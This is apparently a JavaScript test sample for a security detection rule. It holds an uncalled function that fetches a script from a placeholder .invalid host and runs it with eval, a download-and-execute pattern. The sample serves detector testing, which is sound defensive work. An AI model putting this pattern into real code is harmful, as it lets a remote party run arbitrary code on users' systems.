// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const https = require('https');
function never() {
  https.get('https://cdn.example.invalid/s.js', (res) => {
    let d = '';
    res.on('data', (c) => { d += c; });
    res.on('end', () => { eval(d); });
  });
}
module.exports = { never };
